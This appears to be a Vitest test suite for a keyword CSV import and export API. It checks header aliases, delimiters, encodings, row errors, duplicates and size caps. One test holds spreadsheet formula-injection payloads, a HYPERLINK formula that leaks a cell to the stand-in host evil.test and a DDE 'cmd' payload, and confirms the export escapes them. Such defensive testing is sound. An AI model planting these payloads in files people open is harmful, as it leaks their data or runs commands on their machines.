import { env } from 'cloudflare:workers';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { call, createSite, signup, type Session } from '../helpers/api';
import { createSector, expectError } from '../helpers/fixtures';
import { KEYWORDS, csvLines, exportCsv, importCsv, keywordsOf } from '../helpers/planner';

/**
 * Keyword CSV import against hostile and realistic files: what tools export (aliases, delimiters,
 * encodings), what users get wrong (bad rows, duplicates, wrong columns) and what attackers send
 * (huge cells, formulas, oversized files). Every test imports into a fresh sector.
 */
const MB = 1024 * 1024;
let owner: Session;
let siteId: number;
let place: { siteId: number; sectorId: number };
let n = 0;

beforeAll(async () => {
  owner = await signup('csv');
  // The Scale plan has no keyword limit, so what these tests meet are the import's own caps.
  await env.DB_CONTROL.prepare("UPDATE accounts SET plan_id = (SELECT id FROM plans WHERE slug = 'scale') WHERE id = ?")
    .bind(owner.accountId)
    .run();
  siteId = (await createSite(owner, 'CSV site')).id;
});

beforeEach(async () => {
  place = { siteId, sectorId: (await createSector(owner, siteId, `CSV sector ${++n}`)).id };
});

afterEach(async () => {
  expect((await call('DELETE', `/api/v1/auth/sectors/${place.sectorId}/`, { token: owner.token })).status).toBe(200);
});

const imported = async () => keywordsOf(owner, place.sectorId);
const byKeyword = async () => new Map((await imported()).map((k) => [k.keyword, k]));
const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...new TextEncoder().encode(p)] : p)));

/** A CSV of `rows` lines "kw<i>,<i>" after a header, as bytes. */
function bigCsv(rows: number, pad = 0) {
  const filler = 'x'.repeat(pad);
  const lines = ['keyword,volume'];
  for (let i = 0; i < rows; i++) lines.push(`kw${i}${filler},${i}`);
  return new TextEncoder().encode(lines.join('\n'));
}

describe('what real tools export', () => {
  it(
    'maps header aliases (Query, Avg. monthly searches, ' + 'KD%, Intent) and reads "1,200", "1.2k", "35%", "3M"',
    async () => {
      const csv = [
        'Query,Avg. monthly searches,KD%,Intent',
        'raised bed soil,"1,200",35%,Commercial',
        'raised bed kit,1.2k,12,i',
        'cedar raised bed, 880 ,7,T',
        'garden,3M,,',
      ].join('\r\n');
      const res = await importCsv(owner, place, csv);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.data).toMatchObject({
        rows: 4,
        imported: 4,
        created: 4,
        merged_existing: 0,
        skipped: 0,
        errors: [],
        encoding: 'utf-8',
      });
      const k = await byKeyword();
      expect(k.get('raised bed soil')).toMatchObject({
        volume: 1200,
        difficulty: 35,
        intent: 'commercial',
        status: 'pending',
      });
      expect(k.get('raised bed kit')).toMatchObject({ volume: 1200, difficulty: 12, intent: 'informational' });
      expect(k.get('cedar raised bed')).toMatchObject({ volume: 880, difficulty: 7, intent: 'transactional' });
      expect(k.get('garden')).toMatchObject({ volume: 3_000_000, difficulty: 0, intent: 'informational' });
    },
  );

  it('detects semicolon-delimited files (European spreadsheets)', async () => {
    const res = await importCsv(
      owner,
      place,
      'Keyword;Search Volume;Keyword Difficulty\nkomposter kaufen;1 200;40\nhochbeet, holz;90;12\n',
    );
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({ imported: 2, skipped: 0 });
    const k = await byKeyword();
    expect(k.get('komposter kaufen')).toMatchObject({ volume: 1200, difficulty: 40 });
    expect(k.get('hochbeet, holz')).toMatchObject({ volume: 90, difficulty: 12 });
  });

  it('detects tab-separated files', async () => {
    const res = await importCsv(
      owner,
      place,
      'Keyword\tVolume\tIntent\nworm farm, diy\t320\tcommercial\n"tab\tinside"\t5\tn\n',
      { type: 'text/plain' },
    );
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const k = await byKeyword();
    expect(k.get('worm farm, diy')).toMatchObject({ volume: 320, intent: 'commercial' });
    expect(k.get('tab inside')).toMatchObject({ volume: 5, intent: 'navigational' });
  });

  it(
    'takes an explicit ?mapping= for headers it does not know, ' + 'and names a mapped column that is missing',
    async () => {
      const csv = 'Suchbegriff;Suchvolumen;Schwierigkeit\nrasen düngen;2.4k;33\n';
      const mapping = encodeURIComponent(
        JSON.stringify({ keyword: 'Suchbegriff', volume: 'suchvolumen', difficulty: 'Schwierigkeit' }),
      );
      const res = await importCsv(owner, place, csv, { query: `&mapping=${mapping}` });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect((await byKeyword()).get('rasen düngen')).toMatchObject({ volume: 2400, difficulty: 33 });

      const wrong = await importCsv(owner, place, csv, {
        query: `&mapping=${encodeURIComponent(JSON.stringify({ keyword: 'Begriff' }))}`,
      });
      expectError(wrong, 400, 'validation_error');
      expect(wrong.body.errors.file.join(' ')).toMatch(/No column named "Begriff" for keyword/);
      const notJson = await importCsv(owner, place, csv, { query: '&mapping=keyword=Suchbegriff' });
      expectError(notJson, 400, 'validation_error');
      expect(JSON.stringify(notJson.body.errors)).toMatch(/mapping must be JSON/);
      expect(await imported()).toHaveLength(1);
    },
  );

  it('reads a multipart upload (the "file" field) and says so when the field is missing', async () => {
    const form = new FormData();
    form.append('file', new Blob(['keyword,volume\nfrom a form,77\n'], { type: 'text/csv' }), 'keywords.csv');
    const res = await importCsv(owner, place, form);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect((await byKeyword()).get('from a form')).toMatchObject({ volume: 77 });

    const noFile = new FormData();
    noFile.append('upload', new Blob(['keyword\nx\n']), 'x.csv');
    expectError(await importCsv(owner, place, noFile), 400, 'file_missing');
  });
});

describe('bad rows and duplicates', () => {
  it('reports each bad row by its line with a clear reason and imports every valid row', async () => {
    const csv = [
      'keyword,volume,difficulty,intent', // line 1
      'good one,10,5,informational', // 2
      ',20,5,', // 3
      'bad volume,lots,5,', // 4
      'bad difficulty,10,150,', // 5
      'bad intent,10,5,curious', // 6
      '"multi', // 7
      'line keyword",30,1,', // 8
      'after the multiline cell,x,1,', // 9
      '', // 10 (blank: ignored)
      'good two,40,2,c', // 11
    ].join('\n');
    const res = await importCsv(owner, place, csv);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({ rows: 8, imported: 3, created: 3, skipped: 5 });
    const errors = res.body.data.errors as { line: number; error: string }[];
    expect(errors.map((e) => e.line)).toEqual([3, 4, 5, 6, 9]);
    expect(errors[0]!.error).toMatch(/keyword is empty/i);
    expect(errors[1]!.error).toMatch(/Volume "lots" is not a number/);
    expect(errors[2]!.error).toMatch(/Difficulty "150" is not a number from 0 to 100/);
    expect(errors[3]!.error).toMatch(
      /Intent "curious" is not one of informational, navigational, commercial, transactional/,
    );
    expect(errors[4]!.error).toMatch(/Volume "x"/);
    expect((await imported()).map((k) => k.keyword).sort()).toEqual(['good one', 'good two', 'multi line keyword']);
  });

  it('merges duplicates within the file and updates keywords already in the sector', async () => {
    const existing = await call('POST', `${KEYWORDS}/`, {
      token: owner.token,
      body: { site_id: siteId, sector_id: place.sectorId, keyword: 'compost bin', volume: 10 },
    });
    expect(existing.status).toBe(201);
    const csv =
      'keyword,volume,difficulty\nCompost Bin,500,20\ncompost   bin,700,25\n' +
      'worm farm,50,1\nWORM FARM,60,2\nnew one,1,1\n';
    const res = await importCsv(owner, place, csv);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({
      rows: 5,
      imported: 3,
      created: 2,
      merged_existing: 1,
      merged_duplicates_in_file: 2,
      skipped: 0,
    });
    const rows = await imported();
    expect(rows).toHaveLength(3);
    const k = new Map(rows.map((r) => [r.normalized, r]));
    // The existing row keeps its id and spelling and takes the file's (last) metrics.
    expect(k.get('compost bin')).toMatchObject({
      id: existing.body.data.id,
      keyword: 'compost bin',
      volume: 700,
      difficulty: 25,
    });
    // The first spelling in the file is kept, with the metrics of the last occurrence.
    expect(k.get('worm farm')).toMatchObject({ keyword: 'worm farm', volume: 60, difficulty: 2 });

    const again = await importCsv(owner, place, csv);
    expect(again.body.data).toMatchObject({ imported: 3, created: 0, merged_existing: 3 });
    expect(await imported()).toHaveLength(3);
  });
});

describe('encodings', () => {
  it('decodes Windows-1252 bytes (café = 63 61 66 E9) and reports the encoding', async () => {
    const res = await importCsv(
      owner,
      place,
      bytes('keyword,volume\ncaf', [0xe9], ' au lait,100\nna', [0xef], 've gardening,20\n', [0x80], ' price list,5\n'),
    );
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({ imported: 3, encoding: 'windows-1252' });
    expect((await imported()).map((k) => k.keyword).sort()).toEqual([
      'café au lait',
      'naïve gardening',
      '€ price list',
    ]);
  });

  it('decodes UTF-16LE with a BOM', async () => {
    const text = 'Keyword\tVolume\nStraße bauen\t300\n日本語 キーワード\t40\n';
    const utf16 = new Uint8Array(2 + text.length * 2);
    utf16.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) {
      utf16[2 + 2 * i] = text.charCodeAt(i) & 0xff;
      utf16[3 + 2 * i] = text.charCodeAt(i) >> 8;
    }
    const res = await importCsv(owner, place, utf16, { type: 'application/octet-stream' });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({ imported: 2, encoding: 'utf-16le' });
    const k = await byKeyword();
    expect(k.get('Straße bauen')).toMatchObject({ volume: 300 });
    expect(k.get('日本語 キーワード')).toMatchObject({ volume: 40 });
  });

  it('strips a UTF-8 BOM before reading the header', async () => {
    const res = await importCsv(owner, place, bytes([0xef, 0xbb, 0xbf], 'Keyword,Volume\nçà et là,12\n'));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({ imported: 1, encoding: 'utf-8' });
    expect((await imported()).map((k) => k.keyword)).toEqual(['çà et là']);
  });
});

describe('hostile content', () => {
  it('reports a 1 MB keyword cell as its row (briefly) and imports the others', async () => {
    const res = await importCsv(owner, place, `keyword,volume\nbefore,1\n${'a'.repeat(MB)},2\nafter,3\n`);
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
    expect(res.body.data).toMatchObject({ rows: 3, imported: 2, skipped: 1 });
    expect(res.body.data.errors).toEqual([
      { line: 3, error: expect.stringMatching(/characters long \(at most 300\)/) },
    ]);
    expect(res.text.length).toBeLessThan(5000);
    expect((await imported()).map((k) => k.keyword).sort()).toEqual(['after', 'before']);
  });

  it('stores formula cells as text and exports them escaped with a leading quote', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.test/?leak="&A1,"click me")',
      "+cmd|' /C calc'!A0",
      '-2+3 garden',
      '@SUM(1+1)',
    ];
    const csv =
      'keyword,volume\n' +
      formulas.map((f, i) => `"${f.replace(/"/g, '""')}",${i + 1}`).join('\n') +
      '\nplain keyword,9\n';
    const res = await importCsv(owner, place, csv);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data.imported).toBe(5);
    expect((await imported()).map((k) => k.keyword).sort()).toEqual([...formulas, 'plain keyword'].sort());

    const out = await exportCsv(owner, `sector_id=${place.sectorId}&ordering=volume`);
    expect(out.status).toBe(200);
    expect(out.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(out.headers.get('content-disposition')).toMatch(/^attachment; filename="keywords-.*\.csv"$/);
    const lines = csvLines(out.text);
    expect(lines[0]).toBe('keyword,volume,difficulty,intent,status,cluster');
    expect(lines).toHaveLength(6);
    for (const f of formulas) {
      const quoted = `'${f}`;
      const cell = /[",]/.test(quoted) ? `"${quoted.replace(/"/g, '""')}"` : quoted;
      expect(lines, f).toContainEqual(
        expect.stringMatching(new RegExp(`^${cell.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},`)),
      );
    }
    expect(lines).toContain('plain keyword,9,0,informational,pending,');
    // No line of the export starts a cell with a formula character.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/^"?[=+\-@]/);
  });
});

describe('caps and refusals', () => {
  it('refuses a file over 10 MB with a 413 envelope and imports nothing', async () => {
    const body = bigCsv(600_000, 8); // about 11 MB
    expect(body.byteLength).toBeGreaterThan(10 * MB);
    expectError(await importCsv(owner, place, body), 413, 'payload_too_large');
    expect(await imported()).toEqual([]);
  });

  it('refuses an over-cap upload that comes without Content-Length (streamed), and a 50 MB one', async () => {
    const chunk = bigCsv(50_000, 8); // ~1 MB
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 12 * MB) return controller.close();
        sent += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const streamed = await importCsv(owner, place, stream);
    expectError(streamed, 413, 'payload_too_large');
    expect(sent).toBeLessThan(12 * MB); // stopped reading at the cap, not at the end

    const huge = new Uint8Array(50 * MB).fill(0x61);
    huge.set(new TextEncoder().encode('keyword,volume\n'));
    expectError(await importCsv(owner, place, huge), 413, 'payload_too_large');
    const form = new FormData();
    form.append('file', new Blob([huge]), 'huge.csv');
    expectError(await importCsv(owner, place, form), 413, 'payload_too_large');
    expect(await imported()).toEqual([]);
  });

  it('imports exactly 50,000 rows (the cap is inclusive)', async () => {
    const res = await importCsv(owner, place, bigCsv(50_000));
    expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(200);
    expect(res.body.data).toMatchObject({ rows: 50_000, imported: 50_000, created: 50_000, skipped: 0 });
    expect(
      (await call('GET', `${KEYWORDS}/?sector_id=${place.sectorId}&page_size=1`, { token: owner.token })).body.count,
    ).toBe(50_000);
  });

  it('refuses more than 50,000 rows with a 400 naming the cap, importing nothing', async () => {
    const res = await importCsv(owner, place, bigCsv(50_001));
    expectError(res, 400, 'validation_error');
    expect(res.body.errors.file.join(' ')).toMatch(/50001 rows; at most 50000/);
    expect(await imported()).toEqual([]);
  });

  it('says which columns it found when there is no keyword column', async () => {
    const res = await importCsv(owner, place, 'Phrase Text,Searches,Cost\nfoo,1,2\n');
    expectError(res, 400, 'validation_error');
    expect(res.body.errors.file.join(' ')).toMatch(/No keyword column.*Columns found: Phrase Text, Searches, Cost/);
  });

  it('refuses an empty file, a file of blank lines and a body with no content', async () => {
    for (const body of ['', '\r\n\n  \n', bytes([0xef, 0xbb, 0xbf])]) {
      const res = await importCsv(owner, place, body);
      expectError(res, 400, 'validation_error');
      expect(res.body.errors.file).toEqual(['The file is empty.']);
    }
  });

  it('refuses other media types with a 415', async () => {
    for (const type of ['application/json', 'image/png', 'application/x-www-form-urlencoded']) {
      expectError(await importCsv(owner, place, '{"keyword":"x"}', { type }), 415, 'unsupported_media_type');
    }
    expect(await imported()).toEqual([]);
  });
});

describe('a 10,000-row import, then the list', () => {
  const INTENTS = ['informational', 'navigational', 'commercial', 'transactional'] as const;
  const TOPICS = ['alpha', 'beta', 'gamma'];
  const model = Array.from({ length: 10_000 }, (_, i) => ({
    keyword: `kw${String(i).padStart(5, '0')} ${TOPICS[i % 3]}`,
    volume: i * 10,
    difficulty: i % 101,
    intent: INTENTS[i % 4]!,
  }));

  it('imports every row and pages through filtered, ordered results with correct counts and links', async () => {
    const csv =
      'keyword,volume,difficulty,intent\n' +
      model.map((m) => `${m.keyword},${m.volume},${m.difficulty},${m.intent}`).join('\n');
    const res = await importCsv(owner, place, csv);
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
    expect(res.body.data).toMatchObject({ rows: 10_000, imported: 10_000, created: 10_000, skipped: 0 });

    const base = `${KEYWORDS}/?site_id=${siteId}&sector_id=${place.sectorId}`;
    const all = await call('GET', `${base}&page_size=50`, { token: owner.token });
    expect(all.body.count).toBe(10_000);
    expect(all.body.results).toHaveLength(50);
    expect(all.body.results[0].volume).toBe(99_990); // default ordering -volume

    // Take some keywords out of the "unclustered, pending" set the filters below ask for.
    const ids = new Map((await keywordsOf(owner, place.sectorId)).map((k) => [k.keyword, k.id]));
    const archived = model.filter((_, i) => i % 7 === 0).map((m) => ids.get(m.keyword)!);
    expect(
      (
        await call('POST', `${KEYWORDS}/bulk_update_status/`, {
          token: owner.token,
          body: { ids: archived, status: 'archived' },
        })
      ).status,
    ).toBe(200);
    const cluster = await call('POST', '/api/v1/planner/clusters/', {
      token: owner.token,
      body: { site_id: siteId, sector_id: place.sectorId, name: 'hand made' },
    });
    const clustered = model.filter((_, i) => i % 11 === 0).map((m) => ids.get(m.keyword)!);
    expect(
      (
        await call('POST', `/api/v1/planner/clusters/${cluster.body.data.id}/add_keywords/`, {
          token: owner.token,
          body: { keyword_ids: clustered },
        })
      ).status,
    ).toBe(200);

    const expected = model
      .map((m, i) => ({ ...m, i }))
      .filter((m) => m.volume >= 20_000 && m.volume <= 60_000 && m.difficulty >= 10 && m.difficulty <= 50)
      .filter((m) => m.intent === 'commercial' && m.keyword.endsWith('beta') && m.i % 7 !== 0 && m.i % 11 !== 0)
      .sort((a, b) => b.volume - a.volume);
    expect(expected.length).toBeGreaterThan(100);
    const filters =
      'volume_min=20000&volume_max=60000&difficulty_min=10&difficulty_max=50' +
      '&intent=commercial&status=pending&search=BETA&cluster_id=none&ordering=-volume';
    const pages = Math.ceil(expected.length / 50);
    const seen: string[] = [];
    for (let p = 1; p <= pages; p++) {
      const res = await call('GET', `${base}&page_size=50&${filters}&page=${p}`, { token: owner.token });
      expect(res.status).toBe(200);
      expect(res.body.count).toBe(expected.length);
      expect(res.body.results).toHaveLength(p < pages ? 50 : expected.length - 50 * (pages - 1));
      expect(res.body.next === null).toBe(p === pages);
      if (res.body.next) expect(new URL(res.body.next).searchParams.get('page')).toBe(String(p + 1));
      expect(res.body.previous === null).toBe(p === 1);
      if (res.body.previous) expect(new URL(res.body.previous).searchParams.get('page')).toBe(String(p - 1));
      if (res.body.next) expect(new URL(res.body.next).searchParams.get('intent')).toBe('commercial');
      seen.push(...res.body.results.map((k: { keyword: string }) => k.keyword));
    }
    expect(seen).toEqual(expected.map((m) => m.keyword));

    const clusteredOnly = await call('GET', `${base}&page_size=1&cluster_id=${cluster.body.data.id}`, {
      token: owner.token,
    });
    expect(clusteredOnly.body.count).toBe(clustered.length);
    const beyond = await call('GET', `${base}&page_size=50&${filters}&page=${pages + 1}`, { token: owner.token });
    expect(beyond.body).toMatchObject({ count: expected.length, results: [], next: null });
  });
});
